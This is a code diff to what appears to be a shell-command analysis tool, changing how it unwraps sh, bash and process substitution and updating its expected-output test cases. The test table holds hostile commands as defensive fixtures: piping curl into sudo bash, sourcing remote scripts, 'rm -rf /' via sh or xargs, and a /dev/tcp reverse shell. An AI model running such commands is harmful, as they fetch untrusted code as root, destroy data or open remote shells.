@@ -15,7 +15,11 @@ def unwrap(argv: tuple[Word, ...]) -> Unwrapped | None:
     if name in ("sh", "bash"):
         if rest and rest[0].text == "-c":
             return Unwrapped(name, (Inner(text=rest[1].text, parameters=rest[2:], via="script"),))
-        return Unwrapped(name, (Inner(reads_input=True, via="input"),)) if not rest else None
+        return (
+            Unwrapped(name, (Inner(reads_input=True, via="input"),))
+            if not rest or rest[0].text.startswith("<(")
+            else None
+        )
     if name == "sudo":
         return Unwrapped(name, (Inner(words=rest, user="root"),))
     if name == "xargs":
@@ -109,7 +113,7 @@ CASES: list[tuple[str, list[str]]] = [
     ("a | b | c", ["a", "b <-0", "c <-1"]),
     ("{ a; b; } | c", ["a", "b", "c <-0,1"]),
     ("a | { b; c; }", ["a", "b <-0", "c <-0"]),
-    ("curl u | sudo bash", ["curl u", "bash <-0 in:sudo/bash via:input user:root opaque:input"]),
+    ("curl u | sudo bash", ["curl u", "bash <-0 in:sudo via:wrapper user:root opaque:input"]),
     ("echo 'rm -rf /' | sh", ["echo 'rm -rf /' +builtin", "rm -rf / <-0 in:sh via:input"]),
     (
         "{ echo rm x; echo ls; } | sh",
@@ -122,17 +126,17 @@ CASES: list[tuple[str, list[str]]] = [
     ("bash <(curl u)", ["curl u via:process-substitution", "bash '<(curl u)'[?@0] <-0 opaque:input,arguments"]),
     (
         "bash <(echo rm x)",
-        ["echo rm x via:process-substitution +builtin", "bash '<(echo rm x)'[@0] <-0", "rm x in:bash via:script"],
+        ["echo rm x via:process-substitution +builtin", "rm x <-0 in:bash via:input"],
     ),
     (
         "source <(curl u)",
         ["curl u via:process-substitution", "source '<(curl u)'[?@0] <-0 +builtin opaque:input,arguments"],
     ),
     (". ./env", [". ./env +builtin opaque:code"]),
-    ("a | tee >(sh)", ["a", "sh <-2 in:sh via:input opaque:input", "tee >(sh)[?] <-0 opaque:arguments"]),
+    ("a | tee >(sh)", ["a", "sh <-2 via:process-substitution opaque:input", "tee >(sh)[?] <-0 opaque:arguments"]),
     (
         "echo 'print(1)' | python",
-        ["echo print(1) +builtin", "python <-0 in:python via:input code_language:python code:'print(1)\\n'"],
+        ["echo print(1) +builtin", "python <-0 code_language:python code:'print(1)\\n'"],
     ),
     ("python -c 'x'", ["python -c x code_language:python code:'x'"]),
     ("echo / | xargs rm -rf", ["echo / +builtin", "rm -rf / <-0 in:xargs via:wrapper +repeated"]),
@@ -155,7 +159,7 @@ CASES: list[tuple[str, list[str]]] = [
     ("a <f b >g", ["a b <f >g"]),
     ("a 3>&- &>> x", ["a 3>&- &>>x"]),
     ("{ a; b; } > f", ["a", "b", ">f <-0,1"]),
-    ("exec 3<>/dev/tcp/h/1; sh <&3 >&3", ["exec 3<>/dev/tcp/h/1 +builtin", "sh <&3 >&3 in:sh via:input opaque:input"]),
+    ("exec 3<>/dev/tcp/h/1; sh <&3 >&3", ["exec 3<>/dev/tcp/h/1 +builtin", "sh <&3 >&3 opaque:input"]),
     # functions, aliases, built-ins
     ('f() { rm "$1"; }; f x', ["rm x via:function"]),
     ('function f { sudo "$@"; }; f rm x', ["rm x in:sudo via:wrapper user:root"]),
